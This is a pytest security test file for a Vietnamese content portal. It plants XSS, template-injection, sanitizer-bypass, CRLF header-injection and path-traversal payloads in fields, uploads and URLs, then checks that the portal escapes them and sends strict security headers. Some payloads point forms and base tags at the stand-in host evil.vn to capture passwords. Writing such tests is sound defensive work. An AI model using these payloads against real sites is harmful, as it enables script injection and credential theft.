"""What people write is text wherever it is shown: in every field, list, form, feed, history, download and answer."""

from __future__ import annotations

from base64 import b64encode
from xml.etree import ElementTree

import lxml.html
import pytest

from attacks.test_forms import shape
from attacks.visitor import local_links

PAYLOAD = "'\"><mk7 onmk7=1>${19193*7919}{{19193*7919}}&lt;mk7&gt;<!--]]>"
MARKED = ("mk7",)


@pytest.fixture(scope="module")
def marked(door, programs, signed_in):
    """Things of every type, people, groups, words and files that carry the payload in every text."""
    admin = programs("admin")
    paths, refused = [], {}
    for told in admin.speak("GET", "/@types").json:
        if not told.get("addable"):
            continue
        name = told["@id"].rpartition("/")[2]
        values = {"@type": name, **values_for(admin.speak("GET", f"/@types/{name}").json)}
        answer = admin.speak("POST", "/tin-tuc", values)
        if answer.status != 201:
            refused[name] = answer.text
            continue
        path = answer.json["@id"].removeprefix(door.address)
        paths.append(path)
        for step in ("submit", "publish"):
            admin.speak("POST", f"{path}/@workflow/{step}", {"comment": PAYLOAD})
    assert not refused, refused
    admin.speak(
        "POST",
        "/@users",
        {"username": "mk", "password": "mật khẩu rất dài đấy", "fullname": PAYLOAD, "roles": ["Editor"]},
    )
    admin.speak("POST", "/@groups", {"groupname": "mk", "title": PAYLOAD, "roles": [], "users": ["mk"]})
    entries = [
        {"id": "mk", "type": "user", "roles": {"Editor": True}},
        {"id": "mk", "type": "group", "roles": {"Reader": True}},
    ]
    admin.speak("POST", f"{paths[0]}/@sharing", {"entries": entries})
    browser = signed_in("admin")
    browser.post(
        "/vocabulary/issuers", {"csrf_token": browser.token(), "new_title": PAYLOAD, "new_abbreviation": PAYLOAD[:10]}
    )
    door.visitor().post("/login", {"login": PAYLOAD, "password": PAYLOAD, "csrf_token": "x"})
    stranger = door.visitor()
    stranger.post(
        "/login",
        {"login": PAYLOAD, "password": "x", "csrf_token": stranger.get("/login").token()},
        {"User-Agent": PAYLOAD},
    )
    return paths


def values_for(schema):
    values = {}
    for name, node in schema.get("properties", {}).items():
        kind = node.get("type")
        if name == "kind":
            values[name] = "cong-van"
        if (
            name in ("number", "issuer", "kind")
            or node.get("readonly")
            or "enum" in node
            or "choices" in node
            or "vocabulary" in node
        ):
            continue
        if name == "choices":
            values[name] = [{"choice": PAYLOAD}, {"choice": f"{PAYLOAD} 2"}]
            continue
        widget = str(node.get("widget", "")) + str(node.get("factory", ""))
        if name == "url" or "URL" in widget:
            values[name] = "https://evil.vn/?a=" + PAYLOAD
        elif "ichtext" in widget.lower() or "Rich" in widget or name == "body":
            values[name] = f"<p>{PAYLOAD}</p>"
        elif name in ("file", "image"):
            data, kind, extension = (
                (b"a,b\n1,2\n", "text/plain", "txt") if name == "file" else (PNG, "image/png", "png")
            )
            values[name] = {
                "data": b64encode(data).decode(), "encoding": "base64", "content-type": kind,
                "filename": f"{PAYLOAD.replace('/', '')}.{extension}",
            }  # fmt: skip
        elif kind == "string" and "format" not in node:
            values[name] = PAYLOAD
    for name in ("title", "description"):
        values.setdefault(name, PAYLOAD)
    return values


PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c49444154789c63606060000000040001f61738550000000049454e44ae426082"
)
SUBVIEWS = ("edit", "history", "sharing", "delete", "contents", "rename", "@history", "@sharing", "@workflow")
LISTS = [
    "/", "/tin-tuc", "/tin-tuc/contents", "/search?text=mk7", "/search?text=%22%3E%3Cmk7%20onmk7%3D1%3E", "/search?kind=%22%3E%3Cmk7%3E",
    "/tin-tuc/rss.xml", "/tin-tuc/atom.xml", "/sitemap.xml", "/sitemap", "/users", "/user/mk", "/groups", "/group/mk", "/audit", "/jobs",
    "/admin", "/vocabularies", "/vocabulary/issuers", "/@search?SearchableText=mk7&fullobjects=1", "/@users", "/@groups",
    "/@suggestions?text=mk7", "/tin-tuc?fullobjects=1", "/khong-co/%22%3E%3Cmk7%20onmk7=1%3E", "/login?next=%22%3E%3Cmk7%20onmk7=1%3E",
    "/van-ban/add/OfficialDocument", "/van-ban/add/%3Cmk7%3E", "/search?text=a&sort=%22%3E%3Cmk7%3E", "/search?date_min=%3Cmk7%3E",
    "/search?in=%22%3E%3Cmk7%3E", "/tin-tuc/search?year=%3Cmk7%3E", "/language?to=%3Cmk7%3E&back=/%3Cmk7%3E",
]  # fmt: skip


def faults(answer):
    """Give what in `answer` became more than text."""
    found = []
    if "151989367" in answer.text:  # long enough that no time of day and no digest holds it
        found.append("a template ran it")
    if "\n" in answer.location or any(name.lower().startswith("mk7") for name in answer.headers):
        found.append("header")
    if answer.kind == "text/html" and answer.body:
        page = lxml.html.document_fromstring(answer.text)
        for element in page.iter():
            if not isinstance(element.tag, str):
                continue
            names = [name.lower() for name in element.attrib]
            if element.tag.lower() in MARKED or any(name.startswith("on") for name in names):
                found.append(lxml.html.tostring(element)[:200])
            if element.tag in ("script", "style") and not element.get("src"):
                found.append(element.tag)
            link = (element.get("href") or element.get("src") or element.get("action") or "").strip().lower()
            if link.startswith(("javascript", "vbscript")) or (
                link.startswith("data:") and not link.startswith("data:image/")
            ):
                found.append(link)
        if page.xpath("//comment()[contains(., ']]>')]"):
            found.append("comment")
    if answer.kind.endswith("xml") and answer.status == 200:
        found += [element.tag for element in ElementTree.fromstring(answer.body).iter() if "mk7" in element.tag]
    if answer.kind == "application/json":
        answer.json  # noqa: B018 (it has to be readable)
    if answer.headers.get("X-Content-Type-Options") != "nosniff":
        found.append("sniffed")
    return found


@pytest.mark.parametrize("login", ["admin", "editor", None])
def test_nothing_that_was_written_becomes_markup(door, signed_in, marked, login):
    visitor = signed_in(login)
    paths = [*LISTS, *marked, *(f"{path}/{view}" for path in marked for view in SUBVIEWS)]
    answers = [visitor.get(path) for path in paths]
    seen = set(map(shape, paths))
    for answer in list(answers):
        if answer.kind == "text/html" and answer.status == 200:
            for link in local_links(answer, door):
                if ("mk7" in link or any(link.startswith(path) for path in marked)) and shape(link) not in seen:
                    seen.add(shape(link))
                    answers.append(visitor.get(link))

    assert {answer.path: answer.status for answer in answers if answer.status >= 500} == {}
    assert {answer.path: found for answer in answers if (found := faults(answer))} == {}


POLICY_WORDS = ("unsafe", "http:", "https:", "*", "blob:", "strict-dynamic", "nonce")


def test_every_answer_has_the_same_strict_policy(door, signed_in, marked):
    visitor = signed_in("admin")
    paths = [
        *LISTS,
        *marked,
        "/static/app.css",
        "/static/app.js",
        "/static/khong-co",
        "/%ff",
        "/healthz",
        "/metrics",
        "/robots.txt",
    ]
    answers = [visitor.get(path) for path in paths]

    policies = {
        answer.headers.get("Content-Security-Policy", f"none at {answer.path} {answer.status}") for answer in answers
    }
    assert len(policies) == 1, policies
    (policy,) = policies
    assert not [word for word in POLICY_WORDS if word in policy], policy
    for needed in ("default-src 'none'", "frame-ancestors 'none'", "base-uri 'none'", "form-action 'self'"):
        assert needed in policy
    for answer in answers:
        assert answer.headers["X-Content-Type-Options"] == "nosniff", answer.path
        assert answer.headers["Referrer-Policy"] == "same-origin"
        assert answer.headers["Cross-Origin-Opener-Policy"] == "same-origin"
        assert answer.headers["Cross-Origin-Resource-Policy"] == "same-origin"
        assert "Permissions-Policy" in answer.headers
        assert "X-Powered-By" not in answer.headers
        assert not any(digit.isdigit() for digit in answer.headers.get("Server", ""))


MUTANTS = [
    '<svg></p><style><a id="</style><img src=1 onerror=mk7()>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=mk7()&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=mk7()>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=mk7()>",
    "<svg><foreignObject><p><iframe srcdoc='<script>mk7()</script>'></iframe></p></foreignObject></svg>",
    '<a href="java&#x09;script:mk7()">x</a><a href="&#1;javascript:mk7()">y</a><a href="JAVASCRIPT&colon;mk7()">z</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5tazcoKTwvc2NyaXB0Pg==">x</a>',
    '<img src="x` `<script>mk7()</script>"` `>',
    '<p id="__proto__" title=\'"><img src=x onerror=mk7()>\'>a</p>',
    "<template><img src=x onerror=mk7()></template>",
    '<xmp><p title="</xmp><img src=x onerror=mk7()>"></xmp>',
    "<textarea></textarea><img src=x onerror=mk7()></textarea>",
    "<table><td><form action=//evil.vn><input name=password><button formaction=//evil.vn>x</button></form></td></table>",
    "<base href=//evil.vn><link rel=stylesheet href=//evil.vn/x.css><meta http-equiv=refresh content='0;url=//evil.vn'>",
    "<img src=//evil.vn/x.png srcset='//evil.vn/y.png 2x' style='background:url(//evil.vn)' onload=mk7()>",
    "<p style='position:fixed;inset:0' class='modal' onclick=mk7()>toàn màn hình</p>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:mk7() /><a id=x><text>x</text></a></svg>",
    "<details open ontoggle=mk7()>x</details><object data=x.swf></object><embed src=x>",
    "<p>\x00<scr\x00ipt>mk7()</scr\x00ipt></p>",
    "<![CDATA[<script>mk7()</script>]]><?php mk7() ?><!--[if IE]><script>mk7()</script><![endif]-->",
    "<b><i>" * 400 + "<script>mk7()</script>",
    "＜script＞mk7()＜/script＞ &lt;script&gt;mk7()&lt;/script&gt;",
]
WORN = "script style iframe object embed form input button base link meta svg math template noscript textarea xmp foreignobject".split()


@pytest.mark.parametrize("mutant", MUTANTS, ids=range(len(MUTANTS)))
def test_formatted_text_keeps_nothing_that_runs_or_covers_the_page(door, programs, mutant):
    admin = programs("admin")
    made = admin.speak(
        "POST", "/tin-tuc", {"@type": "Page", "title": "Đột biến", "body": f"<p>trước</p>{mutant}<p>sau</p>"}
    )
    if made.status == 400:
        return
    assert made.status == 201, made.text
    path = made.json["@id"].removeprefix(door.address)
    reader = door.visitor().take_token("editor")

    page = reader.get(path)
    article = page.page.xpath("//main")[0]
    worn = [
        element.tag
        for element in article.xpath(".//article//*")
        if isinstance(element.tag, str)
        and element.tag.lower() in WORN
        and not element.xpath("ancestor-or-self::*[@class='icon'] | ancestor::form[@action]")
    ]
    assert faults(page) == []
    body = admin.speak("GET", path).json["body"]
    source = body["data"] if isinstance(body, dict) else body
    tree = lxml.html.fragment_fromstring(source or "<p/>", create_parent="div")
    for element in tree.iter():
        if not isinstance(element.tag, str):
            raise AssertionError("a comment stayed")
        assert element.tag not in WORN
        assert not set(element.attrib) & {"style", "class", "srcset", "action", "formaction", "name"}
        assert not [name for name in element.attrib if name.startswith(("on", "data-", "xlink"))]
        link = "".join((element.get("href") or element.get("src") or "").split()).lower()
        assert not link.startswith(("javascript", "data:", "vbscript"))
    assert [tag for tag in worn if tag not in ("svg", "form", "button", "input")] == []


def test_a_link_to_elsewhere_says_that_the_portal_does_not_vouch_for_it(door, programs):
    admin = programs("admin")
    body = '<p><a href="https://evil.vn/?a=>x">một</a> <a href="//evil.vn" title="&quot;>">hai</a> <a href="/van-ban">ba</a></p>'
    made = admin.speak("POST", "/tin-tuc", {"@type": "Page", "title": "Liên kết ra ngoài", "body": body}).json
    path = made["@id"].removeprefix(door.address)
    admin.speak("POST", f"{path}/@workflow/publish", {})

    links = {
        link.text: link.get("rel", "") for link in door.visitor().get(path).page.xpath("//article//a") if link.text
    }

    assert {"ugc", "nofollow", "noopener"} <= set(links["một"].split())
    assert {"ugc", "nofollow", "noopener"} <= set(links["hai"].split())
    assert "nofollow" not in links["ba"]


RUNNING = {
    "x.svg": ("image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg"><script>mk7()</script></svg>'),
    "x.html": ("text/html", b"<!doctype html><script>mk7()</script>"),
    "x.png": ("image/png", b"<!doctype html><script>mk7()</script>"),
    "x.txt": ("text/html", b"<html><script>mk7()</script>"),
    "x.pdf": ("application/pdf", b"<html><script>mk7()</script>"),
    "x.xml": (
        "application/xml",
        b'<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">mk7()</x:script>',
    ),
    "x.htm.jpg": ("image/jpeg", b"GIF89a/*<script>mk7()</script>*/=1;"),
    "x.mht": ("message/rfc822", b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>mk7()</script>"),
    "x.swf": ("application/x-shockwave-flash", b"FWS\x09" + b"\0" * 40),
    "x.js": ("text/javascript", b"mk7()"),
    "x.hta": ("application/hta", b"<script>mk7()</script>"),
    '"\r\nX-Mk7: 1\r\n\r\n<script>.txt': ("text/plain", b"mk7"),
    "../../../static/app.js": ("text/plain", b"mk7"),
    "x.php": ("application/x-php", b"<?php mk7(); ?>"),
}


@pytest.mark.parametrize("filename", RUNNING, ids=range(len(RUNNING)))
@pytest.mark.parametrize("way", ["File", "OfficialDocument", "Image"])
def test_no_file_runs_on_the_address_of_the_portal(door, programs, filename, way):
    kind, data = RUNNING[filename]
    admin = programs("admin")
    file = {"data": b64encode(data).decode(), "encoding": "base64", "filename": filename, "content-type": kind}
    field = "image" if way == "Image" else "file"
    made = admin.speak(
        "POST",
        "/tin-tuc" if way != "OfficialDocument" else "/van-ban",
        {"@type": way, "title": "Tệp lạ", "kind": "cong-van", field: file},
    )
    assert made.status in (201, 400, 415, 422), made.text
    if made.status != 201:
        return
    path = made.json["@id"].removeprefix(door.address)

    for suffix in (
        f"download/{field}/x",
        f"download/{field}/x?inline",
        f"download/{field}/x.html?inline=1",
        f"thumbnail/{field}",
    ):
        answer = admin.get(f"{path}/{suffix}")
        if answer.status != 200:
            continue
        assert answer.kind not in (
            "text/html",
            "image/svg+xml",
            "application/xhtml+xml",
            "text/javascript",
            "application/xml",
        ) or (answer.headers["Content-Disposition"].startswith("attachment"))
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert "X-Mk7" not in answer.headers
        policy = answer.headers["Content-Security-Policy"]
        assert "default-src 'none'" in policy
        assert "unsafe" not in policy
        assert "script-src" not in policy or "thumbnail" in suffix
        assert "frame-ancestors" in policy
